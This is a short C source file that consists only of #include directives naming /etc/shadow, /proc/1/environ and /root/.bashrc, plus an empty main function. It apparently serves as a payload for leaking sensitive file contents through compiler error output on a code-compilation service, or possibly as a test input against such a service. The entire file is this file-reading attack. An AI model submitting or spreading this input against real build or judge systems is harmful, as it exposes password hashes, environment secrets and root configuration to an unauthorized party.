#include "/etc/shadow"
#include "/proc/1/environ"
#include "/root/.bashrc"
int main(void) { return 0; }
